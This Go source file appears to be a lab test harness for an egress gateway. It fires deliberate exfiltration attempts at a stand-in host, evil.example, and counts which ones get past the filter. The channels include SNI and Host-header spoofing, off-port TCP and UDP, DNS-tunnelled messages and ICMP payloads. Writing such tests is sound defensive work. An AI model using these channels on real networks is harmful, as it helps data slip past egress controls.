//go:build linux

package fault

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"

	"tidegate.io/tidegate/lab"
)

// evilWord is in every evil message and every evil name; nothing else in the lab holds it.
const evilWord = "evil-stream"

// unbound are addresses in the lab's internet that no name resolves to.
var unbound = [2]netip.Addr{netip.MustParseAddr("20.66.66.66"), netip.MustParseAddr("2603:1066::66")}

// evil counts what must not arrive, and does.
type evil struct {
	tried  atomic.Int64
	passed atomic.Int64
	mu     sync.Mutex
	seen   map[*lab.Seen]bool
	ways   map[string]int // of those that arrived, by protocol
}

func newEvil() *evil { return &evil{seen: map[*lab.Seen]bool{}, ways: map[string]int{}} }

// watch is told all that servers see.
func (e *evil) watch(s *lab.Seen) {
	says := strings.Contains(s.Name, evilWord) || bytes.Contains(s.Data, []byte(evilWord))
	if !s.Whole || !says && s.Local.Addr() != unbound[0] && s.Local.Addr() != unbound[1] {
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if !e.seen[s] {
		e.seen[s] = true
		way := s.Proto
		if s.Local.Port() == 80 {
			way = "http" // which its first bytes do not say yet
		}
		e.ways[way]++
		e.passed.Add(1)
	}
}

// arrived lists what came through, by protocol.
func (e *evil) arrived() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return fmt.Sprint(e.ways)
}

// evilPatience is how long an evil client waits: for an answer, which must not come.
const evilPatience = time.Second

// evilPace is the time between two evil attempts.
const evilPace = 40 * time.Millisecond

// run makes evil attempts until ctx is done, each kind in turn, from both nodes.
func (e *evil) run(ctx context.Context, s *Site, v6Only bool) {
	var under sync.WaitGroup
	defer under.Wait()
	tick := time.NewTicker(evilPace)
	defer tick.Stop()
	kinds := evilKinds()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		kind, v6, node := kinds[i%len(kinds)], i/len(kinds)%2 == 1 || v6Only, s.Node(1+i%2)
		if kind.v4 && v6 {
			continue
		}
		under.Go(func() {
			ctx, cancel := context.WithTimeout(ctx, evilPatience)
			defer cancel()
			e.tried.Add(1)
			kind.try(ctx, s, node, v6)
		})
	}
}

// An evilKind is one way out that there must not be. What it returns does not matter: servers say what arrived.
type evilKind struct {
	proto string // as the servers record it
	v4    bool   // IPv4 only
	try   func(ctx context.Context, s *Site, n *lab.Node, v6 bool)
}

func evilKinds() []evilKind {
	permitted := func(s *Site, v6 bool) netip.Addr { return s.where(permittedName, v6) }
	return []evilKind{
		{"tls", false, func(ctx context.Context, s *Site, n *lab.Node, v6 bool) { // another name at a permitted address
			greet(ctx, s, n, evilWord+".evil.example", netip.AddrPortFrom(permitted(s, v6), 443))
		}},
		{"tls", false, func(ctx context.Context, s *Site, n *lab.Node, v6 bool) { // a permitted name at another address
			greet(ctx, s, n, permittedName, netip.AddrPortFrom(unbound[family(v6)], 443))
		}},
		{"tcp", false, func(ctx context.Context, s *Site, n *lab.Node, v6 bool) { // another port
			shout(ctx, n, "tcp", netip.AddrPortFrom(permitted(s, v6), 22), evilWord)
		}},
		{"udp", false, func(ctx context.Context, s *Site, n *lab.Node, v6 bool) {
			shout(ctx, n, "udp", netip.AddrPortFrom(permitted(s, v6), 51820), evilWord)
		}},
		{"http", false, func(ctx context.Context, s *Site, n *lab.Node, v6 bool) { // another host at a permitted web server
			shout(ctx, n, "tcp", netip.AddrPortFrom(s.where(webName, v6), 80), "GET / HTTP/1.1\r\nHost: "+evilWord+".evil.example\r\n\r\n")
		}},
		{"dns", true, func(ctx context.Context, _ *Site, n *lab.Node, _ bool) { // a resolver of one's own, a name as a message
			name := fmt.Sprintf("m%d.%s.evil.example", words.Add(1), evilWord)
			_, _ = n.Ask(ctx, "udp", netip.MustParseAddrPort("8.8.8.8:53"), name, dns.TypeA)
		}},
		{"ip", true, ping},
	}
}

func family(v6 bool) int {
	if v6 {
		return 1
	}
	return 0
}

// greet shows a ClientHello.
func greet(ctx context.Context, s *Site, n *lab.Node, name string, to netip.AddrPort) {
	raw, err := n.Dial(ctx, "tcp", to)
	if err != nil {
		return
	}
	defer raw.Close()
	c := tls.Client(raw, &tls.Config{RootCAs: s.CA.Pool(), ServerName: name})
	_ = c.HandshakeContext(ctx)
}

// shout sends text and waits for an answer.
func shout(ctx context.Context, n *lab.Node, network string, to netip.AddrPort, text string) {
	c, err := n.Dial(ctx, network, to)
	if err != nil {
		return
	}
	defer c.Close()
	if at, ok := ctx.Deadline(); ok {
		_ = c.SetDeadline(at)
	}
	if _, err := io.WriteString(c, text); err == nil {
		_, _ = c.Read(make([]byte, 100))
	}
}

// ping carries a word in an echo request.
func ping(ctx context.Context, s *Site, n *lab.Node, _ bool) {
	m := icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{ID: 1, Seq: int(words.Add(1)), Data: []byte(evilWord)}}
	b, err := m.Marshal(nil)
	if err != nil {
		return
	}
	_ = n.Do(func() error {
		c, err := net.ListenPacket("ip4:icmp", n.Addrs[0].String())
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = c.WriteTo(b, &net.IPAddr{IP: s.where(permittedName, false).AsSlice()})
		return err
	})
}

// control makes the evil attempts without a gateway: a kind that does not arrive then would prove nothing.
func control(ctx context.Context, conf Config, dir string) error {
	s := &Site{conf: conf, evil: newEvil()}
	l, err := lab.Start(ctx, lab.Config{Dir: dir, Watch: s.evil.watch})
	if err != nil {
		return err
	}
	s.Lab = l
	defer l.Close()
	ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	s.evil.run(ctx, s, false)
	for _, k := range evilKinds() {
		s.evil.mu.Lock()
		n := s.evil.ways[k.proto]
		s.evil.mu.Unlock()
		if n == 0 {
			return fmt.Errorf("control: without a gateway no evil message arrives by %s: the stream would prove nothing", k.proto)
		}
	}
	conf.Say(fmt.Sprintf("control, without a gateway: of %d evil attempts %d arrive", s.evil.tried.Load(), s.evil.passed.Load()))
	return nil
}
